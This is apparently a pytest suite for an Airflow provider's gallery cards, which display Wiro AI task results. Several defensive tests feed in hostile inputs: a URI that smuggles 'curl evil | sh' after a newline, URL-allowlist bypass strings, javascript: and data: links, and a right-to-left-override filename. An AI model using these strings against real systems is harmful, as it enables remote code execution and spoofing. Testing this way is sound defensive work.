"""A run's card: what its operator, its sensor and its transfer have left is one."""

from __future__ import annotations

import dataclasses
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from airflow_provider_wiro.gallery.cards.run_card import run_card
from airflow_provider_wiro.gallery.left.rows import Instance, Kind
from airflow_provider_wiro.gallery.page import CardState, Gallery, GalleryRun, MediaKind, Section
from tests.gallery.cards.made import (
    ENDED,
    FILE,
    ON_ITS_WAY,
    RENDERED,
    RENDERED_TRANSFER,
    RULES,
    SUMMARY,
    TRANSFERRED,
    card,
    instance,
    left,
    one_group,
    transfer,
)

RUN = instance(wiro_task_id="2221")
LAND = transfer(wiro_task_id="2221")
LAND_URL = "/wiro/media/shots/manual__2026-11-27T10%3A00%3A00%2B00%3A00/land/-1/-/0"


def test_prompt_and_seed_are_the_run_s_and_the_media_are_the_transfer_s() -> None:
    shown = card(
        (RUN, left(SUMMARY, rendered=RENDERED)), (LAND, left(TRANSFERRED, rendered=RENDERED_TRANSFER))
    )

    assert (shown.title, shown.model, shown.prompt, shown.seed) == ("generate", "owner/model", "a robot", "7")
    assert shown.parameters == (("steps", "30"),)
    assert shown.state is CardState.SUCCEEDED
    assert (shown.wiro_task_id, shown.cost_usd, shown.elapsed_seconds) == ("2221", "0.004", 6.0)
    (media,) = shown.media
    assert (media.kind, media.url, media.uri, media.note) == (MediaKind.IMAGE, LAND_URL, FILE["uri"], "")
    assert shown.links == {"log": "/dags/shots/runs/manual__2026-11-27T10%3A00%3A00%2B00%3A00/tasks/generate"}
    assert shown.code is not None
    compile(shown.code, "dag.py", "exec")


def test_what_only_wiro_has_is_named_without_its_link() -> None:
    (media,) = card((RUN, left(SUMMARY, rendered=RENDERED))).media

    assert (media.url, media.uri) == (None, None)
    assert media.note == "It has not landed yet. Wiro keeps it for a limited time."


@pytest.mark.parametrize(
    ("url", "is_shown"),
    [
        ("https://cdn1.wiro.ai/0.png", True),
        ("http://cdn1.wiro.ai/0.png", False),
        ("javascript:alert(1)", False),
        ("https://user:secret@cdn1.wiro.ai/0.png", False),
        ("HTTPS://CDN1.WIRO.AI/0.png", False),
        ("https://wiro.ai:443/0.png", True),
        ("https://cdn1.wiro.ai:8443/0.png", False),
        ("https://evil.example/0.png", False),
        ("https://127.0.0.1/0.png", False),
        ("https://wiro.ai.evil.example/0.png", False),
        ("https://evilwiro.ai/0.png", False),
        ("https://evil.example\\.wiro.ai/0.png", False),
        ("https://evil.example/x.wiro.ai/0.png", False),
        ("https://evil.example?x.wiro.ai/0.png", False),
        ("https://*.wiro.ai/0.png", False),
    ],
)
def test_wiro_s_links_are_shown_only_if_that_is_allowed_and_only_over_tls(
    url: str, *, is_shown: bool
) -> None:
    summary = {**SUMMARY, "outputs": [{**SUMMARY["outputs"][0], "url": url}]}

    (media,) = card(
        (RUN, left(summary, rendered=RENDERED)), rules=dataclasses.replace(RULES, shows_unlanded=True)
    ).media

    assert media.url == (url if is_shown else None)


def test_no_name_turns_the_direction_of_writing() -> None:
    """Operators write them plainly; who writes an XCom through Airflow's API doesn't."""
    turned, plainly = "holiday\u202egnp.exe", r"holiday\u202egnp.exe"
    summary = {
        **SUMMARY,
        "model": turned,
        "finish_reason": turned,
        "outputs": [{**SUMMARY["outputs"][0], "name": turned}],
    }
    by_name = {**TRANSFERRED, "files": [{**FILE, "name": turned}]}
    by_uri = {**TRANSFERRED, "files": [{**FILE, "name": None, "uri": f"s3://bucket/{turned}"}]}

    unlanded = card((RUN, left(summary)))
    assert (unlanded.model, unlanded.finish_reason, unlanded.media[0].name) == (plainly, plainly, plainly)
    for files in (by_name, by_uri):
        landed = card(
            (RUN, left(SUMMARY, rendered=RENDERED)), (LAND, left(files, rendered=RENDERED_TRANSFER))
        )
        assert [media.name for media in landed.media] == [plainly]


def test_a_uri_is_one_line_to_read_and_to_copy() -> None:
    """A person copies it into a terminal, where a line break runs what is after it."""
    forged = {**TRANSFERRED, "files": [{**FILE, "uri": "s3://bucket/0.png\ncurl evil | sh\n"}]}

    shown = card((RUN, left(SUMMARY, rendered=RENDERED)), (LAND, left(forged, rendered=RENDERED_TRANSFER)))

    assert [media.uri for media in shown.media] == [r"s3://bucket/0.png\ncurl evil | sh\n"]


def test_a_transfer_of_another_wiro_task_lends_the_card_no_media() -> None:
    other = {**TRANSFERRED, "wiro_task_id": "666"}

    shown = card((RUN, left(SUMMARY, rendered=RENDERED)), (LAND, left(other, rendered=RENDERED_TRANSFER)))

    assert shown.wiro_task_id == "2221"
    assert [media.uri for media in shown.media] == [None]


def test_a_sensor_s_summary_is_newer_than_that_of_the_run_it_waited_for() -> None:
    started = {**SUMMARY, "state": "queued", "outputs": [], "cost_usd": None, "elapsed_seconds": None}
    sensor = instance("wait", Kind.SENSOR, wiro_task_id="2221", order=1, follows=True)

    shown = card((RUN, left(started, rendered=RENDERED)), (sensor, left(SUMMARY)))

    assert (shown.state, shown.cost_usd) == (CardState.SUCCEEDED, "0.00351")
    assert len(shown.media) == 1


def test_a_reused_result_shows_the_objects_that_it_has() -> None:
    landed = {"output": 0, "part": "", **{name: FILE[name] for name in FILE if name != "skipped"}}
    summary = {**SUMMARY, "reused": True, "cost_usd": "0", "reuse": {"landed": [landed]}}

    shown = card((RUN, left(summary, rendered=RENDERED)))

    assert (shown.state, shown.cost_usd) == (CardState.REUSED, "0")
    assert [media.uri for media in shown.media] == [FILE["uri"]]
    assert "/generate/-1/-/0" in str(shown.media[0].url)


def test_a_failure_shows_its_error_and_leads_to_the_log_of_the_task_that_failed() -> None:
    failed = transfer("failed", wiro_task_id="2221")
    error = {"error": "S3 refuses the upload: AccessDenied.", "wiro_task_id": "2221"}

    shown = card((RUN, left(SUMMARY, rendered=RENDERED)), (failed, left(wiro_error=error)))

    assert (shown.state, shown.error) == (CardState.FAILED, error["error"])
    assert shown.links is not None
    assert shown.links["log"].endswith("/tasks/land")


def test_a_failure_without_an_error_leads_to_the_log() -> None:
    assert card((instance(state="failed"), left())).error == "The task failed. Its log says why."


def test_a_task_instance_that_was_cleared_shows_nothing_of_its_earlier_result() -> None:
    shown = card((instance(state="queued"), left(SUMMARY, rendered=RENDERED)), run=ON_ITS_WAY)

    assert (shown.state, shown.media, shown.cost_usd) == (CardState.QUEUED, (), None)


@pytest.mark.parametrize(
    ("state", "on_its_way", "over"),
    [
        (None, CardState.QUEUED, CardState.NOT_RUN),
        ("scheduled", CardState.QUEUED, CardState.NOT_RUN),
        ("queued", CardState.QUEUED, CardState.NOT_RUN),
        ("running", CardState.RUNNING, CardState.NOT_RUN),
        ("deferred", CardState.RUNNING, CardState.NOT_RUN),
        ("up_for_reschedule", CardState.RUNNING, CardState.NOT_RUN),
        ("up_for_retry", CardState.QUEUED, CardState.NOT_RUN),
        ("a state of a later Airflow", CardState.RUNNING, CardState.NOT_RUN),
        ("success", CardState.SUCCEEDED, CardState.SUCCEEDED),
        ("failed", CardState.FAILED, CardState.FAILED),
        ("upstream_failed", CardState.NOT_RUN, CardState.NOT_RUN),
        ("skipped", CardState.SKIPPED, CardState.SKIPPED),
        ("removed", CardState.NOT_RUN, CardState.NOT_RUN),
    ],
)
def test_what_has_not_run_is_on_its_way_only_while_its_dag_run_is(
    state: str | None, on_its_way: CardState, over: CardState
) -> None:
    one = (instance(state=state), left(rendered=RENDERED))

    assert card(one, run=ON_ITS_WAY).state is on_its_way
    assert card(one, run=ENDED).state is over


def test_a_card_is_on_its_way_until_its_outputs_have_landed() -> None:
    landing = transfer("running", wiro_task_id="2221")

    shown = card((RUN, left(SUMMARY, rendered=RENDERED)), (landing, left()), run=ON_ITS_WAY)

    assert shown.state is CardState.RUNNING


def test_an_answer_shows_its_text_and_why_it_ended() -> None:
    answer = {
        **SUMMARY,
        "text": "x" * 100_001,
        "finish_reason": "length",
        "outputs": [{"index": 0, "name": "", "content_type": "raw", "size": None, "url": None}],
    }

    shown = card((RUN, left(answer, rendered=RENDERED)))

    assert shown.text is not None
    assert (len(shown.text), shown.text[-1], shown.finish_reason) == (100_000, "…", "length")
    assert shown.media == ()


def test_an_estimate_says_that_nothing_was_run() -> None:
    estimate = {"model": "owner/model", "kind": "range", "min_usd": "0.1", "max_usd": None, "assumed": {}}

    shown = card((RUN, left(estimate, rendered=RENDERED)))

    assert shown.state is CardState.NOT_RUN
    assert shown.parameters[0] == ("estimate", "$0.1 to $?")


@pytest.mark.parametrize(
    ("least", "most", "said"),
    [(None, None, "not known"), ("0.5", "0.5", "$0.5"), ("0.1", "0.5", "$0.1 to $0.5")],
)
def test_an_estimate_is_one_amount_or_two_or_not_known(least: Any, most: Any, said: str) -> None:
    estimate = {"model": "owner/model", "kind": "exact", "min_usd": least, "max_usd": most, "assumed": {}}

    assert card((RUN, left(estimate, rendered=RENDERED))).parameters[0] == ("estimate", said)


def test_a_task_that_a_person_has_marked_as_a_success_shows_no_error() -> None:
    error = {"error": "Wiro task 2221 failed: CUDA out of memory"}

    assert card((RUN, left(rendered=RENDERED, wiro_error=error))).error is None


def test_a_run_that_nothing_waited_for_has_succeeded_once_it_has_landed() -> None:
    queued = {**SUMMARY, "state": "queued", "status": "task_queue", "outputs": []}

    assert card((RUN, left(queued, rendered=RENDERED))).state is CardState.QUEUED
    landed = card(
        (RUN, left(queued, rendered=RENDERED)), (LAND, left(TRANSFERRED, rendered=RENDERED_TRANSFER))
    )
    assert landed.state is CardState.SUCCEEDED


def two_transfers() -> list[tuple[Instance, Any]]:
    """Return a run that is landed on a disk, and then in S3."""
    disk = instance("to_disk", Kind.TRANSFER, order=1, follows=True, wiro_task_id="2221")
    on_disk = {**TRANSFERRED, "files": [{**FILE, "uri": "file:///out/0.png", "etag": None}]}
    return [
        (RUN, left(SUMMARY, rendered=RENDERED)),
        (disk, left(on_disk, rendered={"wiro_task_id": "2221", "path": "file:///out/{name}"})),
        (LAND, left(TRANSFERRED, rendered=RENDERED_TRANSFER)),
    ]


def test_of_several_transfers_a_card_shows_the_one_whose_files_can_be_shown() -> None:
    (media,) = card(*two_transfers()).media

    assert (media.url, media.uri) == (LAND_URL, FILE["uri"])


@pytest.mark.parametrize(
    ("task_id", "uri"), [("to_disk", "file:///out/0.png"), ("land", FILE["uri"]), ("generate", FILE["uri"])]
)
def test_the_page_of_a_transfer_shows_what_it_has_landed_itself(task_id: str, uri: str) -> None:
    pairs = two_transfers()
    group = one_group(*(one for one, _ in pairs))

    shown = run_card(ENDED, group, {one.key: values for one, values in pairs}, RULES, task_id)

    assert [media.uri for media in shown.media] == [uri]


def test_the_label_is_the_title_else_the_task_with_what_its_map_index_template_gave() -> None:
    labelled = {**RENDERED, "run_label": "teapot"}
    mapped = instance(map_index=3, label="a tram")

    assert card((RUN, left(SUMMARY, rendered=labelled))).title == "teapot"
    assert card((mapped, left(SUMMARY, rendered=RENDERED))).title == "generate [a tram]"
    assert card((instance(map_index=3), left(SUMMARY, rendered=RENDERED))).title == "generate [3]"


def test_a_transfer_alone_shows_what_it_was_handed() -> None:
    alone = transfer(wiro_task_id="2221", follows=False)
    rendered = {**RENDERED_TRANSFER, "wiro_task_id": {**SUMMARY, "label": "teapot"}}

    shown = card((alone, left(TRANSFERRED, rendered=rendered)))

    assert (shown.title, shown.model, shown.task_id) == ("teapot", "owner/model", "land")
    assert [media.url for media in shown.media] == [LAND_URL]
    assert shown.code is None


def test_a_result_that_is_too_large_is_named() -> None:
    values = dataclasses.replace(left(rendered=RENDERED), unread={"return_value": "It has 5 characters."})

    assert card((RUN, values)).error == "The result of generate can't be shown. It has 5 characters."


@pytest.mark.parametrize(
    ("key", "url"),
    [
        ("wiro_task_url", "javascript:alert(1)"),
        ("wiro_task_url", "data:text/html,x"),
        ("wiro_s3_url", "//evil.example.com"),
        ("wiro_s3_url", "https://console.example.com@evil.example.com/"),
        ("wiro_manifest_url", "https://a b"),
        ("wiro_manifest_url", "https://a\nb"),
        ("wiro_manifest_url", ["https://a"]),
        ("wiro_manifest_url", "https://" + "a" * 5_000),
    ],
)
def test_a_link_that_is_no_plain_web_address_is_no_link(key: str, url: Any) -> None:
    assert set(card((RUN, left(SUMMARY, **{key: url}))).links or ()) == {"log"}


def test_links_come_from_the_task_instances_of_the_card() -> None:
    shown = card(
        (RUN, left(SUMMARY, wiro_task_url="https://wiro.ai/models/a/b#task-2221")),
        (
            LAND,
            left(
                TRANSFERRED,
                wiro_s3_url="https://s3.example.com/b",
                wiro_manifest_url="https://s3.example.com/m",
            ),
        ),
    )

    assert shown.links is not None
    assert {name: shown.links[name] for name in ("wiro", "s3", "manifest")} == {
        "wiro": "https://wiro.ai/models/a/b#task-2221",
        "s3": "https://s3.example.com/b",
        "manifest": "https://s3.example.com/m",
    }


ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters(), max_size=8),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
FIELDS = st.sampled_from(
    [*SUMMARY, *FILE, *RENDERED, "files", "reuse", "landed", "manifest_uri", "total", "error", "prompt"]
)
HOSTILE = st.recursive(
    ANY_JSON,
    lambda inner: st.dictionaries(FIELDS, inner | st.lists(inner, max_size=3), max_size=8),
    max_leaves=20,
)


@given(returned=HOSTILE, rendered=HOSTILE, error=HOSTILE, url=HOSTILE, second=HOSTILE)
def test_whatever_is_left_is_a_card_of_plain_json(
    returned: Any, rendered: Any, error: Any, url: Any, second: Any
) -> None:
    values = left(returned, rendered=rendered if isinstance(rendered, dict) else None, wiro_error=error)
    values.xcoms["wiro_task_url"] = url  # type: ignore[index]
    pairs: list[tuple[Instance, Any]] = [(RUN, values), (LAND, left(second, rendered=RENDERED_TRANSFER))]

    _check_plain(card(*pairs))


@pytest.mark.parametrize("change", [{**SUMMARY}, {**TRANSFERRED}])
@given(data=st.data())
def test_a_result_with_a_field_of_another_kind_is_a_card_of_plain_json(
    change: Any, data: st.DataObject
) -> None:
    name = data.draw(st.sampled_from(sorted(change)))

    _check_plain(card((RUN, left({**change, name: data.draw(HOSTILE)}, rendered=RENDERED))))


def _check_plain(shown: Any) -> None:
    sections = (Section("runs", "Runs", (shown,)),)
    gallery = Gallery("shots", (GalleryRun("r", "success", None, "/", sections),))
    text = json.dumps(gallery.to_json(), allow_nan=False, ensure_ascii=False)
    text.encode()  # no lone surrogates
